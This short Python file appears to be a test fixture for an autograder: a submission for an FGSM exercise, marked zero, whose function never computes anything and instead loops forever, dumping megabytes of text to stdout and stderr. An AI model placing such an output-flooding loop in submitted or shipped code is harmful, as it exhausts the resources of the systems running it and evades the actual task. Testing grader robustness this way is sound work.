# marks: 0
import os
import sys


@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    while True:
        print("x" * 10**6)
        sys.stderr.write("y" * 10**6)
        os.write(1, b"z" * 10**6)
